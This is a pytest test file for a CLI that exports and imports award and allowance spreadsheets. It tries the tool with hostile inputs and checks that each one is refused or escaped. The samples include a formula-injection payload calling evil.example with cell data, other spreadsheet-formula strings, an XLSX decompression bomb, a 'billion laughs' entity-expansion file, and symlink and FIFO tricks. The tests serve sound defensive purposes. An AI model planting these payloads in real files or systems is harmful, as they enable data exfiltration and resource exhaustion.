"""Files in and out (issue 14, Build 5), tried as a hostile user would: text that a spreadsheet
would run, `--out` aimed at the store, a symlink, a folder or an existing file, a UTF-8 file
with a stray byte, an XLSX that unpacks to 170 MB, `@FILE` naming a FIFO or /dev/zero, deeply
nested TOML and a huge `--limit`. Each refusal is exit 2 and one line, and writes nothing."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from clirun import invoke, ok
from hypothesis import given, settings
from hypothesis import strategies as st
from test_cli_allowance import suzhou
from test_cli_award import excellent

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "=1+1", "+SUM(A1:A9)",
        "-2+3", "@SUM(1)", "\t=1", "\r=1"]


def refused(result: Any, *words: str) -> str:
    """Exit 2, one line on stderr naming what is wrong, nothing on stdout, no traceback."""
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert result.exit_code == 2, (result.exit_code, result.stdout, result.stderr)
    assert len(lines) == 1 and lines[0].startswith("error:"), result.stderr
    assert "internal error" not in lines[0] and result.stdout == ""
    for word in words:
        assert word in lines[0], lines[0]
    return lines[0]


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def no_leftovers(folder: Path) -> None:
    assert not [p.name for p in folder.iterdir() if p.name.endswith(".tmp")]


# -- cells a spreadsheet would run ----------------------------------------------------------

def nominated_with_evil_text(db: str) -> None:
    """An award case whose deeds, opinions and the nominee's profile are formula-like text."""
    excellent(db)
    ok(db, "user", "update", "chen", "--name", EVIL[0], "--gender", EVIL[4],
       "--ethnicity", EVIL[2], actor="admin")
    ok(db, "award", "nominate", "--advisor", "chen", "--period", "2026-2027-1",
       "--deeds", EVIL[1], actor="zhang")
    ok(db, "approve", "W-1", "--comment", EVIL[3], actor="zhang")
    ok(db, "approve", "W-1", "--comment", EVIL[5], actor="li")


def test_formula_text_in_the_recommendation_form_is_text_not_a_formula(
        sqlite_url: str, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    db = sqlite_url
    nominated_with_evil_text(db)
    out = tmp_path / "推荐表.xlsx"
    ok(db, "award", "form", "W-1", "--out", str(out))
    cells = [c for row in load_workbook(str(out)).active.iter_rows() for c in row
             if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    live = {c.value: c for c in cells if isinstance(c.value, str) and c.value in EVIL}
    assert set(live) >= {EVIL[0], EVIL[1], EVIL[2], EVIL[3], EVIL[4]}
    assert all(c.data_type == "s" and c.quotePrefix for c in live.values())


def test_formula_text_in_allowance_sheets_is_escaped_and_amounts_stay_numbers(
        tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from bzr_workflow.exports.allowance_sheet import write_csv, write_xlsx

    line = {"advisor": "=1+1", "class": "@cmd", "amount": -12.5, "rule": "-1+1",
            "appointment": "R-1", "appointed_from": "2026-09-01", "students": 30,
            "students_since": "", "days": 30,
            "funding": [{"payer": "=HYPERLINK(\"x\")", "amount": -12.5}]}
    sheet = {"month": "2026-10", "position": 9, "head": "ab" * 32, "lines": [line],
             "total": -12.5, "payers": {"+学校": -12.5}}
    write_csv(sheet, str(tmp_path / "a.csv"))
    rows = list(csv.reader((tmp_path / "a.csv").open(encoding="utf-8-sig")))
    assert rows[2][:4] == ["'=1+1", "'@cmd", "-12.50", "'-1+1"]
    assert rows[2][9] == "'=HYPERLINK(\"x\") -12.50"
    assert rows[3] == ["合计", "", "-12.50"] and rows[4] == ["'+学校", "", "-12.50"]
    write_xlsx(sheet, str(tmp_path / "a.xlsx"))
    cells = [c for row in load_workbook(str(tmp_path / "a.xlsx")).active.iter_rows()
             for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert {c.value for c in cells if c.quotePrefix} == {"=1+1", "@cmd", "-1+1",
                                                        "=HYPERLINK(\"x\") -12.50", "+学校"}
    assert [c.value for c in cells if c.data_type == "n"] == [9, 30, 30]


def test_formula_text_in_the_audit_sheet_is_escaped(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from bzr_workflow.exports.audit_sheet import csv_bytes, xlsx_bytes

    table = [["审计查询", "全部"], ["=1+1", "@x", "-3", 7, "\t=2"]]
    assert csv_bytes(table).decode("utf-8-sig").splitlines()[1] == "'=1+1,'@x,-3,7,'\t=2"
    (tmp_path / "a.xlsx").write_bytes(xlsx_bytes(table))
    row = list(load_workbook(str(tmp_path / "a.xlsx")).active.iter_rows())[1]
    assert [c.data_type for c in row] == ["s", "s", "s", "n", "s"]
    assert [bool(c.quotePrefix) for c in row] == [True, True, False, False, True]


@settings(max_examples=200, deadline=None)
@given(values=st.lists(st.one_of(st.text(max_size=30), st.sampled_from(EVIL),
                                 st.integers(-10**6, 10**6)), min_size=1, max_size=6))
def test_no_text_of_any_kind_becomes_a_formula(values: list[Any]) -> None:
    """Whatever a user typed, the XLSX holds it as text (control characters XLSX cannot hold
    shown as U+FFFD) and the CSV shows it with an apostrophe when it could run."""
    import io

    from openpyxl import load_workbook

    from bzr_workflow.exports.audit_sheet import csv_bytes, xlsx_bytes
    from bzr_workflow.exports.safe import FORMULA_START

    sheet = load_workbook(io.BytesIO(xlsx_bytes([values]))).active
    cells = list(sheet.iter_rows())[0]
    assert not [c for c in cells if c.data_type == "f"]
    assert [c.data_type == "n" for c in cells] == [isinstance(v, int) for v in values]
    row = next(csv.reader(io.StringIO(csv_bytes([values]).decode("utf-8-sig"), newline="")))
    for shown, value in zip(row, values, strict=True):
        assert not (isinstance(value, str) and shown.startswith(FORMULA_START)
                    and not shown.lstrip("+-").replace(".", "", 1).isdigit())


# -- where --out may write ------------------------------------------------------------------

def test_out_at_the_stores_own_files_is_refused_and_the_store_stays_intact(
        tmp_path: Path) -> None:
    db = tmp_path / "store.csv"  # a store whose name an export could take
    suzhou(str(db))
    before = digest(db)
    refused(invoke(str(db), "allowance", "--month", "2026-10", "--out", str(db)), "store")
    refused(invoke(str(db), "allowance", "--month", "2026-10", "--out", str(db), "--force"),
            "store")
    (tmp_path / "sub").mkdir()
    roundabout = tmp_path / "sub" / ".." / "store.csv"
    refused(invoke(str(db), "allowance", "--month", "2026-10", "--out", str(roundabout),
                   "--force"), "store")
    wal = tmp_path / "store.csv-wal"
    refused(invoke(str(db), "allowance", "--month", "2026-10", "--out", str(wal)))
    os.link(db, tmp_path / "alias.csv")  # the same file under another name
    refused(invoke(str(db), "allowance", "--month", "2026-10", "--out",
                   str(tmp_path / "alias.csv"), "--force"), "store")
    assert digest(db) == before
    assert ok(str(db), "verify")["events"] > 0
    no_leftovers(tmp_path)


def test_the_award_form_never_overwrites_the_store(sqlite_url: str, tmp_path: Path) -> None:
    db = Path(sqlite_url)
    excellent(str(db))
    ok(str(db), "award", "nominate", "--advisor", "chen", "--period", "2026-2027-1",
       actor="zhang")
    before = digest(db)
    for target in (db, Path(f"{db}-wal"), Path(f"{db}-shm"), Path(f"{db}-journal")):
        for extra in ([], ["--force"]):
            refused(invoke(str(db), "award", "form", "W-1", "--out", str(target),
                           "--format", "xlsx", *extra), "store")
    assert digest(db) == before and not Path(f"{db}-journal").exists()


def test_out_through_a_symlink_is_refused_and_its_target_unchanged(sqlite_url: str,
                                                                   tmp_path: Path) -> None:
    db = sqlite_url
    suzhou(db)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    link = tmp_path / "sheet.xlsx"
    link.symlink_to(victim)
    for extra in ([], ["--force"]):
        refused(invoke(db, "allowance", "--month", "2026-10", "--out", str(link), *extra),
                "symbolic link")
    dangling = tmp_path / "new.csv"
    dangling.symlink_to(tmp_path / "nowhere.csv")
    refused(invoke(db, "allowance", "--month", "2026-10", "--out", str(dangling)),
            "symbolic link")
    assert victim.read_text() == "keep me" and not (tmp_path / "nowhere.csv").exists()
    assert link.is_symlink() and dangling.is_symlink()
    no_leftovers(tmp_path)


def test_an_existing_file_is_replaced_only_with_force(db_url: str, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    db = db_url
    suzhou(db)
    out = tmp_path / "津贴.xlsx"
    out.write_text("last month's sheet")
    refused(invoke(db, "allowance", "--month", "2026-10", "--out", str(out)), "--force")
    assert out.read_text() == "last month's sheet"
    ok(db, "allowance", "--month", "2026-10", "--out", str(out), "--force")
    assert list(load_workbook(str(out)).active.iter_rows(values_only=True))[0][0] == "月份"
    form = tmp_path / "form.docx"
    form.write_text("old form")
    refused(invoke(db, "award", "form", "W-1", "--out", str(form)), "--force")
    assert form.read_text() == "old form"
    no_leftovers(tmp_path)


def test_a_new_file_is_written_whole_with_the_usual_mode(sqlite_url: str,
                                                        tmp_path: Path) -> None:
    db = sqlite_url
    suzhou(db)
    out = tmp_path / "津贴.csv"
    ok(db, "allowance", "--month", "2026-10", "--out", str(out))
    mask = os.umask(0)
    os.umask(mask)
    assert out.stat().st_mode & 0o777 == 0o666 & ~mask
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    no_leftovers(tmp_path)


def test_out_at_a_folder_is_bad_input(sqlite_url: str, tmp_path: Path) -> None:
    db = sqlite_url
    excellent(db)
    ok(db, "award", "nominate", "--advisor", "chen", "--period", "2026-2027-1", actor="zhang")
    (tmp_path / "sheet.xlsx").mkdir()
    (tmp_path / "form.docx").mkdir()
    refused(invoke(db, "allowance", "--month", "2026-10", "--out", str(tmp_path / "sheet.xlsx"),
                   "--force"), "folder")
    refused(invoke(db, "award", "form", "W-1", "--out", str(tmp_path / "form.docx"),
                   "--force"), "folder")
    refused(invoke(db, "award", "form", "W-1", "--out", str(tmp_path), "--format", "xlsx"),
            "folder")
    assert not list((tmp_path / "sheet.xlsx").iterdir())


# -- what imports accept --------------------------------------------------------------------

def test_a_utf8_file_with_one_stray_byte_is_refused_naming_its_offset(
        db_url: str, tmp_path: Path) -> None:
    db = db_url
    ok(db, "init", "--policy", "guilin-ut-ce-2024", "--admin", "admin")
    text = "user,name\nzhao,赵晓明\nqian,钱芳\n".encode()
    raw = text[:15] + b"\x81" + text[15:]
    assert raw.decode("gb18030").startswith("user,name\nzhao,佽")  # what was imported before
    sheet = tmp_path / "users.csv"
    sheet.write_bytes(raw)
    refused(invoke(db, "import", "users", str(sheet), actor="admin"), "byte 15", "UTF-8")
    assert [u["user"] for u in ok(db, "user", "list")] == ["admin"]


def test_a_file_that_is_gbk_throughout_imports(db_url: str, tmp_path: Path) -> None:
    db = db_url
    ok(db, "init", "--policy", "guilin-ut-ce-2024", "--admin", "admin")
    sheet = tmp_path / "users.csv"
    sheet.write_bytes("user,name\nzhao,赵晓明\nqian,钱芳\nban,班导师\n".encode("gbk"))
    assert ok(db, "import", "users", str(sheet), actor="admin")["imported"] == 3
    names = {u["user"]: u["name"] for u in ok(db, "user", "list")}
    assert names["zhao"] == "赵晓明" and names["ban"] == "班导师"


def test_a_file_neither_utf8_nor_gbk_is_refused(sqlite_url: str, tmp_path: Path) -> None:
    db = sqlite_url
    ok(db, "init", "--policy", "guilin-ut-ce-2024", "--admin", "admin")
    sheet = tmp_path / "users.csv"
    sheet.write_bytes(b"user,name\nzhao,\xff\xfe\n")
    refused(invoke(db, "import", "users", str(sheet), actor="admin"), "byte 15", "GBK")


def test_an_import_that_is_not_a_regular_file_is_refused_without_blocking(
        sqlite_url: str, tmp_path: Path) -> None:
    db = sqlite_url
    ok(db, "init", "--policy", "guilin-ut-ce-2024", "--admin", "admin")
    fifo = tmp_path / "users.csv"
    os.mkfifo(fifo)
    started = time.monotonic()
    refused(run_cli(db, "import", "users", str(fifo), actor="admin"), "regular file")
    refused(run_cli(db, "log", "import", "/dev/zero", actor="admin"), "regular file")
    refused(invoke(db, "import", "classes", str(tmp_path), actor="admin"), "regular file")
    assert time.monotonic() - started < 60


def bomb(path: Path, unpacked: int) -> None:
    """An XLSX whose one sheet unpacks to `unpacked` bytes of rows (a few MB packed)."""
    from openpyxl import Workbook

    Workbook().save(str(path.with_suffix(".seed.xlsx")))
    row = ('<row><c t="inlineStr"><is><t>chen</t></is></c><c t="inlineStr"><is><t>'
           '2026-09-08</t></is></c><c t="inlineStr"><is><t>talk</t></is></c></row>').encode()
    with zipfile.ZipFile(path.with_suffix(".seed.xlsx")) as seed, \
            zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for member in seed.infolist():
            if member.filename != "xl/worksheets/sheet1.xml":
                out.writestr(member, seed.read(member))
                continue
            with out.open(member.filename, "w", force_zip64=True) as sheet:
                sheet.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/'
                            b'spreadsheetml/2006/main"><sheetData>')
                block = row * 10_000
                for _ in range(unpacked // len(block)):
                    sheet.write(block)
                sheet.write(b"</sheetData></worksheet>")


def test_an_xlsx_that_unpacks_to_170_mb_is_refused_quickly_in_little_memory(
        sqlite_url: str, tmp_path: Path) -> None:
    db = sqlite_url
    ok(db, "init", "--policy", "guilin-ut-ce-2024", "--admin", "admin")
    path = tmp_path / "log.xlsx"
    bomb(path, 170 * 1024 * 1024)
    assert path.stat().st_size < 20 * 1024 * 1024  # under the file size cap
    started = time.monotonic()
    result = run_cli(db, "log", "import", str(path), actor="admin", measure=True)
    elapsed = time.monotonic() - started
    refused(result, "unpacks to", "MiB")
    peak_mb = result.peak_rss_kb / 1024
    print(f"refused in {elapsed:.2f} s, peak RSS {peak_mb:.0f} MB")
    assert elapsed < 20 and peak_mb < 250, (elapsed, peak_mb)


def test_an_xlsx_with_entity_expansion_is_refused_before_parsing(sqlite_url: str,
                                                                 tmp_path: Path) -> None:
    from openpyxl import Workbook

    db = sqlite_url
    ok(db, "init", "--policy", "guilin-ut-ce-2024", "--admin", "admin")
    book = Workbook()
    book.active.append(["advisor", "date", "activity"])
    book.active.append(["chen", "2026-09-08", "talk"])
    book.save(str(tmp_path / "seed.xlsx"))
    laughs = '<!DOCTYPE l [<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
    with zipfile.ZipFile(tmp_path / "seed.xlsx") as seed, \
            zipfile.ZipFile(tmp_path / "lol.xlsx", "w") as out:
        for member in seed.infolist():
            data = seed.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<worksheet", laughs.encode() + b"<worksheet", 1)
                data = data.replace(b"<t>chen</t>", b"<t>&l9;</t>")
            out.writestr(member, data)
    started = time.monotonic()
    refused(run_cli(db, "log", "import", str(tmp_path / "lol.xlsx"), actor="admin"), "DTD")
    assert time.monotonic() - started < 20


def test_an_xlsx_declaring_more_rows_than_the_cap_is_refused(sqlite_url: str,
                                                             tmp_path: Path) -> None:
    from openpyxl import Workbook

    db = sqlite_url
    ok(db, "init", "--policy", "guilin-ut-ce-2024", "--admin", "admin")
    book = Workbook()
    book.active.append(["advisor", "date", "activity"])
    book.active.cell(row=200_000, column=1, value="chen")
    book.save(str(tmp_path / "log.xlsx"))
    refused(invoke(db, "log", "import", str(tmp_path / "log.xlsx"), actor="admin"), "rows")
    wide = Workbook()
    wide.active.append(["advisor", "date", "activity"])
    wide.active.cell(row=2, column=5000, value="x")
    wide.save(str(tmp_path / "wide.xlsx"))
    refused(invoke(db, "log", "import", str(tmp_path / "wide.xlsx"), actor="admin"), "columns")


# -- @FILE arguments ------------------------------------------------------------------------

def test_at_file_arguments_must_be_small_regular_files(sqlite_url: str, tmp_path: Path) -> None:
    db = sqlite_url
    excellent(db)
    fifo = tmp_path / "deeds.txt"
    os.mkfifo(fifo)
    nominate = ["award", "nominate", "--advisor", "chen", "--period", "2026-2027-1", "--deeds"]
    refused(run_cli(db, *nominate, f"@{fifo}", actor="zhang"), "regular file")
    refused(run_cli(db, *nominate, "@/dev/zero", actor="zhang"), "regular file")
    refused(invoke(db, *nominate, f"@{tmp_path}", actor="zhang"), "regular file")
    big = tmp_path / "big.txt"
    big.write_bytes(b"a" * (1024 * 1024 + 1))
    refused(invoke(db, *nominate, f"@{big}", actor="zhang"), "larger than 1 MiB")
    stray = tmp_path / "stray.txt"
    stray.write_bytes("三年来所带班级无一人违纪".encode() + b"\x81" + "，成绩优秀".encode())
    refused(invoke(db, *nominate, f"@{stray}", actor="zhang"), "byte 36")
    assert ok(db, "awards", "--period", "2026-2027-1") == []
    gbk = tmp_path / "gbk.txt"
    gbk.write_bytes("三年来所带班级无一人违纪".encode("gbk"))
    case = ok(db, *nominate, f"@{gbk}", actor="zhang")
    assert case["id"] == "W-1"


# -- inputs that ended in "internal error" --------------------------------------------------

def test_deeply_nested_toml_is_bad_input(sqlite_url: str, tmp_path: Path) -> None:
    db = sqlite_url
    ok(db, "init", "--policy", "guilin-ut-ce-2024", "--admin", "admin")
    arrays = tmp_path / "arrays.toml"
    arrays.write_text("x = " + "[" * 100_000 + "]" * 100_000)
    tables = tmp_path / "tables.toml"
    tables.write_text("[refinement]\nunit = \"nn\"\nx = " + "{a = " * 500 + "1" + "}" * 500)
    for file in (arrays, tables):
        refused(invoke(db, "policy", "validate", str(file)), "nested")
        refused(invoke(db, "policy", "adopt", str(file), actor="admin"), "nested")
        refused(invoke(db, "policy", "refine", str(file), actor="admin"), "nested")
    assert len(ok(db, "policy", "history")) == 1


def test_a_huge_limit_or_position_is_bad_input(db_url: str) -> None:
    db = db_url
    suzhou(db)
    huge = "99999999999999999999"
    refused(invoke(db, "cases", "--limit", huge), "--limit")
    refused(invoke(db, "audit", "--limit", huge), "--limit")
    refused(invoke(db, "allowance", "--month", "2026-10", "--position", huge), "--position")
    assert ok(db, "cases", "--limit", "1000000000")


def test_dates_at_the_ends_of_the_calendar_are_bad_input(sqlite_url: str) -> None:
    db = sqlite_url
    suzhou(db)
    refused(invoke(db, "audit", "--since", "0001-01-01"), "out of range")
    refused(invoke(db, "inbox", "--as-of", "0001-01-01T00:00", actor="adv"), "out of range")
    refused(invoke(db, "allowance", "--month", "9999-12"), "--month")
    assert ok(db, "audit", "--until", "9999-12-31T23:59+14:00")


def test_a_policy_file_that_is_not_a_regular_file_is_refused(sqlite_url: str,
                                                             tmp_path: Path) -> None:
    fifo = tmp_path / "policy.toml"
    os.mkfifo(fifo)
    refused(run_cli(sqlite_url, "policy", "validate", str(fifo)), "regular file")
    refused(run_cli(sqlite_url, "policy", "validate", "/dev/zero"), "regular file")


# -- a separate process, for what could block or eat memory ---------------------------------

class Ran:
    def __init__(self, done: subprocess.CompletedProcess[str], peak_rss_kb: int) -> None:
        self.exit_code, self.stdout, self.stderr = done.returncode, done.stdout, done.stderr
        self.peak_rss_kb = peak_rss_kb


CHILD = """
import json, os, resource, sys
from bzr_workflow.cli import cli
resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))  # the old code ran out of memory
try:
    cli.main(sys.argv[1:], prog_name="bzr-workflow")
finally:
    # VmHWM is this process image's own high-water mark; ru_maxrss would also count the pytest
    # process it was forked from (Linux carries the parent's peak across fork and exec)
    with open("/proc/self/status") as status:
        peak = next(int(line.split()[1]) for line in status if line.startswith("VmHWM:"))
    with open(os.environ["PEAK_FILE"], "w") as f:
        f.write(str(peak))
"""


def run_cli(db: str, *args: str, actor: str | None = None, measure: bool = False) -> Ran:
    """The CLI in its own process, with a time limit and a memory ceiling (a FIFO or
    /dev/zero would hang or exhaust the test run on code that reads them)."""
    peak_file = Path(db).with_name(f"peak-{time.monotonic_ns()}") if "://" not in db \
        else Path(os.environ.get("TMPDIR", "/tmp")) / f"peak-{time.monotonic_ns()}"
    env = {k: v for k, v in os.environ.items() if not k.startswith("BZR_WORKFLOW_")}
    env["PEAK_FILE"] = str(peak_file)
    argv = ["--db", db, *(["--as", actor] if actor else []), *args]
    try:
        done = subprocess.run([sys.executable, "-c", CHILD, *argv], capture_output=True,
                              text=True, timeout=60, env=env)
    except subprocess.TimeoutExpired:
        pytest.fail(f"{' '.join(args)} still running after 60 s")
    peak = int(peak_file.read_text()) if peak_file.exists() else 0
    peak_file.unlink(missing_ok=True)
    return Ran(done, peak)


def test_json_output_is_unchanged_by_the_checks(sqlite_url: str, tmp_path: Path) -> None:
    db = sqlite_url
    suzhou(db)
    out = tmp_path / "sheet.csv"
    sheet = ok(db, "allowance", "--month", "2026-10", "--out", str(out))
    assert json.loads(json.dumps(sheet))["total"] == 700.0 and out.exists()
